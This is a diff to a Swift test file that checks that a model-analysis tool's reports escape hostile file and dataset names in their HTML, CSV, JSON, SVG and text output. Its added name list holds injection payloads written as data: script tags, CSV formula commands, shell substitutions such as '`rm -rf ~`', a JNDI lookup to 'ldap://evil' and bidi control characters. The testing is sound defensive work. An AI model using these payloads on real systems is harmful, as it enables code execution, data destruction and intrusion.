@@ -3,6 +3,7 @@ import Documents
 import Evaluation
 import Foundation
 import Graphs
+import Quantization
 import Reports
 import Tensors
 import Testing
@@ -14,7 +15,10 @@ struct HostileNamesTests {
     "<script>alert(1)</script>.jpg", "\" onerror=\"alert(1)", "' onmouseover='alert(1)",
     "</style><img src=x onerror=y>",
     "a]]>--><!--", "=HYPERLINK(\"http://evil\")", "photo\u{202E}gpj.exe", "nul\u{0}bell\u{7}", "\u{2028}line",
-    "&lt;b&gt;", "javascript:alert(1)", "very/long/" + String(repeating: "x", count: 3000),
+    "&lt;b&gt;", "javascript:alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1",
+    "`rm -rf ~`", "$(reboot)", "line\nbreak\r\n=1+1", "\u{200F}\u{2067}right to left\u{2069}", "\u{1B}[31mred",
+    "</script><script>alert(1)</script>", "]]><svg onload=alert(1)>", "%00", "${jndi:ldap://evil}", "{{7*7}}",
+    "very/long/" + String(repeating: "x", count: 3000),
   ]
 
   /// One of each report, all of whose words are hostile.
@@ -75,7 +79,37 @@ struct HostileNamesTests {
         diagram: ModelDiagram.make(
           try graph(name), name: name, layers: LayerRow.rows(ModelAnalysis(try graph(name)), steps: [layer]),
           coloring: .type)),
-      ExportedFileReport(path: name, byteCount: 1, format: name),
+      ExportedFileReport(path: name, byteCount: 1, format: name, omissions: [name]),
+      ExportReport(
+        model: name, path: name, precision: name, opset: 1, nodeCount: 1, byteCount: 1, digest: name),
+      DistanceReport(
+        model: name, parent: name, dataset: name,
+        comparison: DistanceComparison(
+          rows: samples.map {
+            .init(sample: $0, output: name, distance: TensorDistance(reference: [1, 2], value: [1, 3]))
+          },
+          layers: [name, "b" + name].map {
+            .init(
+              name: $0, operatorName: name, isQuantized: true,
+              distance: TensorDistance(reference: [1, 2], value: [1, 3]))
+          }, skipped: [DatasetProblem(path: name, line: 1, reason: name)]), selection: [0, 1], pictures: shelf),
+      ImportanceReport(
+        model: name, path: name, frame: image, scores: optimized.scores(ofSample: 0),
+        maps: [try #require(ImportanceMap(classIndex: 0, size: ImageSize(2), values: [0, 0.5, 1, 0]))], maskCount: 1,
+        classes: classes),
+      ReportTypesReport(
+        model: name, dataset: name,
+        kinds: [
+          .init(name: name, command: name, summary: name, obstacle: nil),
+          .init(name: name, command: name, summary: name, obstacle: name),
+        ]),
+      SensitivityReport(
+        model: name, parent: name, dataset: name,
+        analysis: SensitivityAnalysis(
+          layers: [.init(name: name, operatorName: name, signalToNoise: 1, outputGain: 1)], outputSignalToNoise: 1,
+          sampleCount: 1)),
+      CacheReport(folder: name, limit: 1, entries: [.init(title: name, count: 1, byteCount: 1)]),
+      OutOfDateReport([.init(name: name, problem: RichText(name), statement: name)]),
     ]
   }
 
@@ -89,34 +123,55 @@ struct HostileNamesTests {
   }
 
   @Test(arguments: names) func areShownAndNotObeyed(_ name: String) throws {
-    for report in try Self.reports(name) {
-      let kind = "\(type(of: report))"
-      let page = report.pageWithCharts.htmlPage()
-      for html in [page, report.document.html()] {
-        let body = try Self.withoutStyleAndScript(html)
-        for piece in ["<script", "<img src=x", "onerror=\"", "onmouseover='", "</style", "<b>"] {
-          #expect(!body.contains(piece), "\(kind): \(piece)")
-        }
-        #expect(!body.unicodeScalars.contains { $0 == "\u{0}" || $0 == "\u{202E}" }, "\(kind)")
-        #expect(html.components(separatedBy: "<script>").count <= 2, "\(kind)")
+    for report in try Self.reports(name) { try Self.check(report) }
+  }
+
+  /// The report of a folder whose name and whose pictures have the names that a file system allows.
+  @Test func ofFilesAreShownAndNotObeyed() throws {
+    let folder = FileManager.default.temporaryDirectory.appendingPathComponent(
+      "<img src=x onerror=alert(1)>\"' \(UUID().uuidString)")
+    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+    defer { try? FileManager.default.removeItem(at: folder) }
+    let picture = try ImageGrid(cards: []).png()
+    let names = Self.names.filter { !$0.contains("/") && !$0.contains("\u{0}") }
+    for name in names { try Data(picture.bytes).write(to: folder.appendingPathComponent(name + ".png")) }
+    let dataset = try Dataset(openingFolder: folder.path)
+    #expect(dataset.samples.count == names.count)
+    let label = ClassLabel(fullName: names[0])
+    try Self.check(
+      DatasetReport(
+        dataset, labels: Labels(classes: [label]), pictures: try PictureShelf(dataset.samples, of: dataset)))
+  }
+
+  private static func check(_ report: any Report) throws {
+    let kind = "\(type(of: report))"
+    let page = report.pageWithCharts.htmlPage()
+    for html in [page, report.document.html()] {
+      let body = try withoutStyleAndScript(html)
+      for piece in ["<script", "<img src=x", "<svg onload", "onerror=\"", "onmouseover='", "</style", "<b>"] {
+        #expect(!body.contains(piece), "\(kind): \(piece)")
       }
-      let text = report.plainText
-      #expect(!text.unicodeScalars.contains { $0 == "\u{0}" || $0 == "\u{7}" || $0 == "\u{202E}" }, "\(kind)")
-      let json = report.data.json
-      #expect(throws: Never.self, "\(kind)") {
-        try JSONSerialization.jsonObject(with: Data(json.utf8), options: .fragmentsAllowed)
+      #expect(!body.unicodeScalars.contains { $0 == "\u{0}" || $0 == "\u{202E}" || $0 == "\u{2067}" }, "\(kind)")
+      #expect(html.components(separatedBy: "<script>").count <= 2, "\(kind)")
+    }
+    let text = report.plainText
+    let forbidden: Set<Unicode.Scalar> = ["\u{0}", "\u{7}", "\u{1B}", "\u{202E}", "\u{2067}"]
+    #expect(!text.unicodeScalars.contains(where: forbidden.contains), "\(kind)")
+    let json = report.data.json
+    #expect(throws: Never.self, "\(kind)") {
+      try JSONSerialization.jsonObject(with: Data(json.utf8), options: .fragmentsAllowed)
+    }
+    for chart in report.charts {
+      #expect(!chart.vegaLite().contains("<") && !chart.svg().contains("<script"), "\(kind)")
+    }
+    for table in report.document.tables {
+      for field in fields(of: table.csv()) where field.first.map({ "=+-@".contains($0) }) ?? false {
+        #expect(Double(field) != nil, "\(kind): a formula in CSV: \(field.prefix(40))")
       }
-      for chart in report.charts {
-        #expect(!chart.vegaLite().contains("<") && !chart.svg().contains("<script"), "\(kind)")
-      }
-      for table in report.document.tables {
-        for field in Self.fields(of: table.csv()) where field.first.map({ "=+-@".contains($0) }) ?? false {
-          #expect(Double(field) != nil, "\(kind): a formula in CSV: \(field.prefix(40))")
-        }
-      }
-      for case .diagram(let diagram) in report.document.blocks {
-        #expect(!diagram.svg().contains("<script") && !diagram.svg().contains("onerror=\""))
-      }
+    }
+    #expect(try report.pageWithCharts.pagePNG(scale: 0.5).content.bytes.starts(with: [0x89, 0x50]), "\(kind)")
+    for case .diagram(let diagram) in report.document.blocks {
+      #expect(!diagram.svg().contains("<script") && !diagram.svg().contains("onerror=\""))
     }
   }
 
